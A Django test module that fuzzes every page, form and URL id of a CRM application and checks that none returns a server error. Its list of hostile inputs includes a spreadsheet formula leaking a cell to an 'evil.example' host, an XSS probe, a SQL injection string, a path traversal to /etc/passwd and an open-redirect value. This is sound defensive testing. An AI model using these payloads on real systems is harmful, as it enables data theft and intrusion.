"""Fuzz every page: no query string, form post or id in a URL makes a page answer 500.

Every URL pattern of the project, the admin's included, is enumerated (a page without an
entry in ``url_kwargs`` fails the test, so none is forgotten) and its ids resolved from a
small shop. Each page is read once as an administrator to learn its query parameters (the
fields of its filter forms and the parameters of its links to itself) and its forms (field
names, the values they would send, the options of their selects). Then:

- every parameter of every page, and every field of every form, gets each value at the
  edges (year 1 and 9999, a time zone that leaves the calendar, 2^63, 1e30, a NUL byte);
- Hypothesis sends random mixes of hostile values (those, NaN, empty, long, Cyrillic,
  ``=HYPERLINK(...)``, random text, numbers and dates) signed in as an administrator and
  as a sales manager, to the pages and forms of the app and of the admin;
- every id in a URL gets numbers beyond the largest key;
- every admin's date hierarchy and date filters get years beyond the calendar.

Any 500, any exception raised by a view, fails the test and names the request. Seeded
(``derandomize``) and bounded, so it runs the same way in CI, in about half a minute per
database.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from datetime import timedelta
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import parse_qsl, urljoin, urlsplit

from django.apps import apps
from django.conf import settings
from django.contrib import admin
from django.contrib.contenttypes.models import ContentType
from django.contrib.sessions.models import Session
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from django_otp.plugins.otp_totp.models import TOTPDevice
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from hypothesis.extra.django import TestCase

from tenure.crm.campaigns import links, running
from tenure.crm.campaigns.models import Audience, Campaign, CampaignStatus, Offer, Step
from tenure.crm.customers.merging import merge_customers
from tenure.crm.customers.models import Customer, SavedView, Tag
from tenure.crm.engagement.models import Activity, CalendarFeed, Complaint, Interaction
from tenure.crm.feedback.models import Answer, Invitation, Survey
from tenure.crm.imports.running import run_import
from tenure.crm.imports.views import SESSION_KEY
from tenure.crm.insights.refreshing import refresh_insights
from tenure.crm.jobs.models import WorkerProcess
from tenure.crm.messaging.models import Notification
from tenure.crm.sales.models import Order, Return
from tenure.crm.testing import TenureTestCase

HOSTILE = [
    "0001-01-01", "9999-12-31", "0001-01-01T00:00", "9999-12-31T23:59",
    "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "2024-02-30", "2024-13-01",
    str(2**63), str(-(2**63)), str(2**63 - 1), str(2**64), "-1", "0", "1e30", "-1e30",
    "1e-30", "NaN", "inf", "-inf", "1.5", "", " ", "9" * 5000, "x" * 10_000,
    '=HYPERLINK("http://evil.example/?leak="&C2,"Click me")', "+380441234567",
    "Привіт, світ", "Ґанна Їжак", "\x00", "a\x00b", "<script>alert(1)</script>",
    "../../etc/passwd", "%", "'; DROP TABLE customers; --", "//evil.example/",
]
values = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=40),
    st.integers().map(str),
    st.floats().map(str),
    st.dates().map(lambda d: d.isoformat()),
    st.datetimes().map(lambda d: d.isoformat(timespec="minutes")),
)
# The values at the edges, sent to every parameter of every page one at a time.
EDGES = ["0001-01-01", "9999-12-31", "9999-12-31T23:59:59-14:00", str(2**63), "1e30", "a\x00b"]
# Sent to every page, as a hand-edited or stale link would.
ANY_PAGE_PARAMS = ["page", "next", "q", "sort", "format"]
# Parameters the views read outside their forms: paging, the timeline's cursor and kinds,
# exports, initial values, where to go back to.
READ_PARAMS = {
    "customers:list": ["page", "format"], "customers:detail": ["before", "kind"],
    "sales:orders": ["page", "format"], "duplicates:list": ["page"],
    "duplicates:history": ["page"], "messaging:notifications": ["page"],
    "engagement:complaints": ["page", "format"],
    "insights:at_risk": ["page", "risk", "segment", "manager", "format"],
    "engagement:log_interaction": ["kind"], "sales:order_new": ["customer", "q"],
    "engagement:plan_activity": ["kind"], "engagement:register_complaint": ["order"],
    "login": ["next"],
}
# The URL arguments that are numbers: ids, and the score of the public survey link.
NUMBERED = {"pk", "first", "second", "object_id", "id", "content_type_id", "score"}
MARK = 4242424242
BIG_IDS = [str(2**63), "9" * 30]


# --- what a page offers ------------------------------------------------------------------------

@dataclass
class FormField:
    default: str | None = None
    options: list[str] = field(default_factory=list)
    is_file: bool = False
    multiple: bool = False


@dataclass
class Form:
    action: str
    fields: dict[str, FormField] = field(default_factory=dict)


class _PageReader(HTMLParser):
    """Collect a page's post forms and the query parameters of its GET forms and links."""

    def __init__(self, url: str):
        super().__init__(convert_charrefs=True)
        self.url = url
        self.forms: list[Form] = []
        self.params: set[str] = set()
        self._form: Form | None = None
        self._get_form = False
        self._select: str | None = None
        self._textarea: str | None = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        name = a.get("name")
        if tag == "a" and a.get("href"):
            self._link(a["href"])
        elif tag == "option" and self._select and self._form is not None:
            self._option(self._form.fields[self._select], a)
        elif tag == "form":
            get = (a.get("method") or "get").lower() == "get"
            action = urljoin(self.url, a.get("action") or "")
            # A GET form's fields are parameters of the page it sends them to: the search
            # box on every page sends q to the search page, which reads it itself.
            self._get_form = get and urlsplit(action).path == urlsplit(self.url).path
            self._form = None if get else Form(action)
        elif name and self._get_form and tag in ("input", "select", "textarea", "button"):
            self.params.add(name)
        elif name and self._form is not None:
            self._field(tag, name, a)

    def _field(self, tag: str, name: str, a: dict) -> None:
        f = self._form.fields.setdefault(name, FormField())
        kind = a.get("type", "text").lower()
        if tag == "select":
            self._select, f.multiple = name, "multiple" in a
        elif tag == "textarea":
            self._textarea, f.default = name, ""
        elif tag == "button" or kind in ("checkbox", "radio", "submit"):
            f.options.append(a.get("value", "on"))
            if "checked" in a:
                f.default = a.get("value", "on")
        elif kind == "file":
            f.is_file = True
        else:
            f.default = a.get("value", "")

    def _option(self, f: FormField, a: dict) -> None:
        f.options.append(a.get("value", ""))
        if "selected" in a or (f.default is None and not f.multiple):
            f.default = a.get("value", "")

    def handle_endtag(self, tag):
        if tag == "form":
            if self._form is not None and self._form.fields:
                self.forms.append(self._form)
            self._form, self._get_form = None, False
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None

    def handle_data(self, data):
        if self._textarea and self._form is not None:
            f = self._form.fields[self._textarea]
            # A browser drops the newline that opens a textarea's content.
            f.default += data[1:] if not f.default and data.startswith("\n") else data

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def _link(self, href: str) -> None:
        parts = urlsplit(urljoin(self.url, href))
        if parts.path == urlsplit(self.url).path:
            self.params.update(key for key, _value in parse_qsl(parts.query))


# --- the URL map -------------------------------------------------------------------------------

def url_patterns(resolver=None, namespace: str = ""):
    """Yield (name, pattern) for every URL pattern of the project (name None: the admin's
    unnamed catch-all, which only redirects or answers 404)."""
    resolver = resolver or get_resolver()
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from url_patterns(entry, inner)
        elif isinstance(entry, URLPattern):
            yield (f"{namespace}{entry.name}" if entry.name else None), entry


ADMIN_OBJECT = re.compile(r"^admin:(\w+)_(change|delete|history)$")


class FuzzTestCase(TestCase, TenureTestCase):
    # The upload the import preview shows, put in each client's session (seed_upload).
    preview_token = "3f1b0c5e-8c1a-4a8e-9d1e-0c2b7a1d4e55"

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.shop()
        # A worker is "running": the refresh button queues the refresh instead of running
        # the whole analysis inside each request.
        WorkerProcess.objects.create(hostname="fuzz", pid=1,
                                     heartbeat_at=timezone.now() + timedelta(days=1))
        cls.pages = cls.catalogue()
        cls.app_pages = [p for p in cls.pages if not p["name"].startswith("admin:")]
        cls.admin_pages = [p for p in cls.pages if p["name"].startswith("admin:")]
        # Each form once, though the language switch is on every page.
        cls.forms = cls.distinct_forms(cls.app_pages)
        cls.admin_forms = cls.distinct_forms(cls.admin_pages)

    @classmethod
    def shop(cls):
        """A shop with one of everything a URL names, belonging to the manager Bob."""
        cls.tag = Tag.objects.create(name="VIP")
        cls.customer = Customer.objects.create(
            name="Olena Koval", email="olena@example.org", phone="+380441234567",
            manager=cls.manager, consent_email=True)
        cls.customer.tags.add(cls.tag)
        cls.twin = Customer.objects.create(name="Olena K.", email="olena@example.org",
                                           manager=cls.manager)
        gone = Customer.objects.create(name="Olena Koval (old)", manager=cls.manager)
        now = timezone.now()
        for n in range(12):
            buyer = Customer.objects.create(name=f"Buyer {n}", manager=cls.manager)
            for k in range(1 + n % 3):
                Order.objects.create(customer=buyer, external_id=f"B{n}-{k}",
                                     total=Decimal(20 + n), ordered_at=now - timedelta(
                                         days=30 * k + 7 * n + 1))
        cls.order = Order.objects.create(customer=cls.customer, external_id="A-1",
                                         total=Decimal("120.00"),
                                         ordered_at=now - timedelta(days=3))
        Return.objects.create(order=cls.order, external_id="R-1", amount=Decimal("20.00"),
                              returned_at=now - timedelta(days=1))
        Order.objects.create(customer=gone, external_id="G-1", total=Decimal("10"),
                             ordered_at=now - timedelta(days=40))
        cls.merge = merge_customers(cls.customer, gone, by=cls.admin)
        cls.saved_view = SavedView.objects.create(owner=cls.admin, list_name="customers",
                                                  name="Kyiv", query="city=Kyiv")
        Interaction.objects.create(customer=cls.customer, kind="call", summary="Asked about",
                                   manager=cls.manager)
        cls.activity = Activity.objects.create(
            customer=cls.customer, subject="Call Olena", assignee=cls.manager,
            due_at=now + timedelta(days=1))
        cls.complaint = Complaint.objects.register(
            cls.customer, category="delivery", description="Late", assignee=cls.manager,
            order=cls.order, by=cls.admin)
        cls.survey = Survey.objects.create(name="After purchase", kind="nps",
                                           trigger="purchase")
        cls.invitation = Invitation.objects.create(
            survey=cls.survey, customer=cls.customer, occasion="order:1",
            expires_at=now + timedelta(days=30))
        answered = Invitation.objects.create(
            survey=cls.survey, customer=cls.customer, occasion="order:2",
            expires_at=now + timedelta(days=30))
        Answer.objects.create(invitation=answered, customer=cls.customer, score=4, kind="nps")
        cls.answered = answered
        for user in (cls.admin, cls.manager):
            Notification.objects.create(user=user, text="Look", url="/customers/")
        cls.feed = CalendarFeed.for_user(cls.manager)
        # Someone else's authenticator: the admin's own would ask this test for codes.
        cls.device = TOTPDevice.objects.create(user=cls.nobody, name="phone", confirmed=False)
        cls.upload = cls.write_upload()
        cls.import_run = run_import("customers", cls.upload, user=cls.admin).run
        refresh_insights()
        cls.audience = Audience.objects.create(name="Kyiv", query="city=Kyiv")
        cls.offer = Offer.objects.create(name="10 off", value=Decimal("10"))
        cls.campaign = Campaign.objects.create(name="Spring", holdout=0, offer=cls.offer,
                                               status=CampaignStatus.ACTIVE)
        cls.step = Step.objects.create(campaign=cls.campaign, body_en="Hi {{ name }}")
        running.run(cls.campaign)  # Olena, who agrees to emails, gets the message

    @staticmethod
    def distinct_forms(pages: list[dict]) -> list[Form]:
        forms = {(f.action, tuple(sorted(f.fields))): f for p in pages for f in p["forms"]}
        return list(forms.values())

    @staticmethod
    def write_upload() -> Path:
        path = Path(settings.VAR_DIR) / "fuzz" / "customers.csv"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("external_id,name,email,phone,birth_date\n"
                        "C1,Ivan,ivan@example.org,+380441234568,1990-01-02\n"
                        "C2,Bad,not-an-email,12,0001-01-01\n", encoding="utf-8")
        return path

    @classmethod
    def url_kwargs(cls, name: str) -> dict | None:
        """Return the arguments of the URL named ``name`` in the shop (None: unknown)."""
        customer, token = cls.customer.pk, cls.invitation.token
        known = {
            "customers:detail": {"pk": customer}, "customers:edit": {"pk": customer},
            "customers:consent": {"pk": customer},
            "customers:delete_view": {"pk": cls.saved_view.pk},
            "duplicates:compare": {"first": customer, "second": cls.twin.pk},
            "duplicates:undo": {"pk": cls.merge.pk},
            "sales:order": {"pk": cls.order.pk}, "sales:order_edit": {"pk": cls.order.pk},
            "imports:preview": {"token": cls.preview_token},
            "imports:detail": {"pk": cls.import_run.pk},
            "imports:rejects": {"pk": cls.import_run.pk},
            "engagement:log_interaction": {"pk": customer},
            "engagement:plan_activity": {"pk": customer},
            "engagement:register_complaint": {"pk": customer},
            "engagement:activity": {"pk": cls.activity.pk},
            "engagement:calendar_feed": {"token": cls.feed.token},
            "engagement:complaint": {"pk": cls.complaint.pk},
            "feedback:survey": {"pk": cls.survey.pk},
            "feedback:send_survey": {"pk": customer},
            "messaging:notification": {"pk": cls.admin.notifications.get().pk},
            "survey:answer": {"token": token}, "survey:stop": {"token": token},
            "survey:answer_why": {"token": cls.answered.token},
            "survey:answer_score": {"token": token, "score": 7},
            "admin:app_list": {"app_label": "customers"},
            "admin:view_on_site": {
                "content_type_id": ContentType.objects.get_for_model(Customer).pk,
                "object_id": customer},
            "admin:auth_user_password_change": {"id": cls.manager.pk},
            "admin:otp_totp_totpdevice_config": {"pk": cls.device.pk},
            "admin:otp_totp_totpdevice_qrcode": {"pk": cls.device.pk},
            "privacy:export": {"pk": customer}, "privacy:erase": {"pk": customer},
            "admin:accounts_user_password_change": {"id": cls.manager.pk},
            "campaigns:campaign": {"pk": cls.campaign.pk},
            "campaigns:edit": {"pk": cls.campaign.pk},
            "campaigns:status": {"pk": cls.campaign.pk},
            "campaigns:test": {"pk": cls.campaign.pk},
            "campaigns:audience": {"pk": cls.audience.pk},
            "campaigns:audience_reward": {"pk": cls.audience.pk},
            "campaigns:offer": {"pk": cls.offer.pk},
            "loyalty:statement": {"pk": customer},
            "loyalty:redeem": {"pk": customer},
            "loyalty:give": {"pk": customer},
            "loyalty:referral_code": {"pk": customer},
            "loyalty:referred": {"pk": customer},
            "campaign_link:click": {"token": links.token(cls.step.pk, customer, "once")},
            "campaign_link:stop": {"token": links.token(cls.step.pk, customer, "once")},
        }
        if name in known:
            return known[name]
        if match := ADMIN_OBJECT.match(name):
            # An app label may hold an underscore itself ("otp_totp"): match the whole name.
            model = next(m for m in apps.get_models()
                         if f"{m._meta.app_label}_{m._meta.model_name}" == match.group(1))
            first = model._default_manager.order_by("pk").first()
            return {"object_id": first.pk if first else 1}
        return None

    @classmethod
    def catalogue(cls) -> list[dict]:
        """Return each page's URL, query parameters and post forms, read as the admin."""
        client = Client()
        client.force_login(cls.admin)
        cls.seed_upload(client)
        pages, unknown = [], []
        for name, pattern in url_patterns():
            if name is None:
                continue
            kwargs = cls.url_kwargs(name) if pattern.pattern.regex.groupindex else {}
            if kwargs is None:
                unknown.append(name)
                continue
            url = reverse(name, kwargs=kwargs)
            response = client.get(url)
            reader = _PageReader(url)
            if "html" in response.get("Content-Type", ""):
                reader.feed(response.content.decode())
            params = reader.params | set(READ_PARAMS.get(name, []))
            pages.append({"name": name, "url": url, "params": sorted(params),
                          "forms": reader.forms, "kwargs": kwargs})
        assert not unknown, f"URLs without fixture arguments in the fuzz test: {unknown}"
        return pages

    @classmethod
    def seed_upload(cls, client: Client) -> None:
        """Put an uploaded file in the client's session, as the upload page does."""
        session = client.session
        session[SESSION_KEY] = {cls.preview_token: {
            "kind": "customers", "path": str(cls.upload), "name": "customers.csv",
            "source": "fuzz"}}
        session.save()

    def setUp(self):
        super().setUp()
        if getattr(getattr(self, self._testMethodName), "is_hypothesis_test", False):
            self.sign_in_once()

    def sign_in_once(self) -> None:
        """Make the administrator's and the manager's sessions, with the upload, for the
        Hypothesis examples (`enter_as`); they are deleted after the test."""
        self.sessions = {}
        for user in (self.admin, self.manager):
            client = Client()
            client.force_login(user)
            self.seed_upload(client)
            self.sessions[user.pk] = client.cookies[settings.SESSION_COOKIE_NAME].value
        self.addCleanup(Session.objects.filter(pk__in=self.sessions.values()).delete)

    def sign_in(self, user) -> None:
        self.client.force_login(user)
        self.seed_upload(self.client)

    def enter_as(self, user) -> None:
        """Sign a Hypothesis example in as ``user`` with the session made in setUp: each
        example is rolled back (hypothesis.extra.django.TestCase), setUp is not, so every
        example starts from that session as it was made, signed in and with the upload,
        whatever the example before did to it."""
        self.client.cookies[settings.SESSION_COOKIE_NAME] = self.sessions[user.pk]

    def check(self, response, request: str) -> None:
        self.assertLess(response.status_code, 500, request)

    def visitors(self, page: dict) -> list:
        """Return who visits ``page``: the admin pages only let staff in."""
        return [self.admin] if page["name"].startswith("admin:") else [self.admin, self.manager]

    # --- the tests -----------------------------------------------------------------------------

    def test_it_answers_no_500_to_an_edge_value_in_any_parameter(self):
        self.sign_in(self.admin)
        for page in self.app_pages:  # the admin's own filters: see the test after next
            for name in page["params"]:
                for value in EDGES:
                    query = {name: value}
                    with self.subTest(url=page["url"], query=query):
                        self.check(self.client.get(page["url"], query),
                                   f"GET {page['url']} {query!r}")

    def test_it_answers_no_500_to_an_edge_value_in_any_form_field(self):
        for form in self.forms:
            if form.action == reverse("logout"):
                continue  # it would sign the sweep out
            self.sign_in(self.admin)
            with self.subTest(action=form.action):
                self.check(self.client.post(form.action, self.defaults(form)),
                           f"POST {form.action} as shown")
            # The test client checks no CSRF token: an edge value there posts the defaults.
            for name in [n for n in form.fields if n != "csrfmiddlewaretoken"]:
                for value in EDGES:
                    post = {**self.defaults(form), name: value}
                    with self.subTest(action=form.action, field=name, value=value):
                        self.check(self.client.post(form.action, post),
                                   f"POST {form.action} {post!r}")

    @hypothesis_settings(max_examples=400, deadline=None, derandomize=True, database=None,
                         suppress_health_check=[HealthCheck.too_slow])
    @given(data=st.data())
    def test_it_answers_no_500_to_hostile_query_strings(self, data):
        page = data.draw(st.sampled_from(self.app_pages) | st.sampled_from(self.admin_pages),
                         label="page")
        user = data.draw(st.sampled_from(self.visitors(page)), label="user")
        names = st.sampled_from(sorted({*page["params"], *ANY_PAGE_PARAMS})) | st.text(max_size=8)
        query = data.draw(st.dictionaries(names, values, min_size=1, max_size=3), label="query")
        self.enter_as(user)
        response = self.client.get(page["url"], query)
        self.check(response, f"GET {page['url']} {query!r}")
        self.assertEqual(response.wsgi_request.user, user)  # no page is fuzzed signed out

    @hypothesis_settings(max_examples=300, deadline=None, derandomize=True, database=None,
                         suppress_health_check=[HealthCheck.too_slow])
    @given(data=st.data())
    def test_it_answers_no_500_to_hostile_form_posts(self, data):
        form = data.draw(st.sampled_from(self.forms) | st.sampled_from(self.admin_forms),
                         label="form")
        user = data.draw(st.sampled_from([self.admin, self.manager]), label="user")
        post = self.draw_post(data, form)
        self.enter_as(user)
        response = self.client.post(form.action, post)
        self.check(response, f"POST {form.action} {post!r}")
        if form.action not in (reverse("logout"), reverse("admin:logout")):
            self.assertEqual(response.wsgi_request.user, user)  # none is fuzzed signed out

    @staticmethod
    def defaults(form: Form) -> dict:
        """Return what the form sends as the page shows it."""
        return {name: f.default for name, f in form.fields.items()
                if f.default is not None and not f.is_file}

    def draw_post(self, data, form: Form) -> dict:
        """Return the form's own values with some of them (or extra keys) made hostile."""
        post = self.defaults(form)
        names = sorted(form.fields) + ["unexpected"]
        for name in data.draw(st.lists(st.sampled_from(names), max_size=4, unique=True),
                              label="changed"):
            f = form.fields.get(name, FormField())
            if f.is_file:
                post[name] = SimpleUploadedFile(
                    data.draw(st.sampled_from(["a.csv", "a.xlsx", "a.parquet", "a.txt"])),
                    data.draw(st.binary(max_size=200)))
            elif f.options and data.draw(st.booleans()):
                post[name] = data.draw(st.sampled_from(f.options))
            elif data.draw(st.integers(0, 5)) == 0:
                post.pop(name, None)
            else:
                post[name] = data.draw(values)
        return post

    def test_the_admin_answers_no_500_to_dates_beyond_the_calendar_or_an_empty_to_field(self):
        self.sign_in(self.admin)
        for model, model_admin in admin.site._registry.items():
            prefix = f"admin:{model._meta.app_label}_{model._meta.model_name}"
            changelist = reverse(f"{prefix}_changelist")
            queries = []
            if day := model_admin.date_hierarchy:
                queries += [{f"{day}__year": "9999"}, {f"{day}__year": str(2**63)},
                            {f"{day}__year": "1", f"{day}__month": "1", f"{day}__day": "1"}]
            for name in model_admin.list_filter:
                if isinstance(name, str) and isinstance(
                        model._meta.get_field(name), models.DateField):
                    queries += [{f"{name}__gte": "0001-01-01T00:00:00+14:00"},
                                {f"{name}__lt": "9999-12-31T23:59:59-14:00"}]
            urls = [(changelist, query) for query in queries]
            if first := model._default_manager.order_by("pk").first():
                urls += [(reverse(f"{prefix}_{view}", args=[first.pk]), {"_to_field": ""})
                         for view in ("change", "delete")]
            for url, query in urls:
                with self.subTest(url=url, query=query):
                    self.check(self.client.get(url, query), f"GET {url} {query!r}")

    def test_it_answers_404_not_500_to_ids_beyond_the_largest_key(self):
        for page in self.pages:
            for name in set(page["kwargs"]) & NUMBERED:
                # Reversed with a marker, replaced after: <id:pk> refuses to build these URLs.
                marked = reverse(page["name"], kwargs={**page["kwargs"], name: MARK})
                for big in BIG_IDS:
                    url = marked.replace(str(MARK), big)
                    for user in self.visitors(page):
                        self.sign_in(user)
                        with self.subTest(url=url, user=user.username):
                            self.check(self.client.get(url), url)
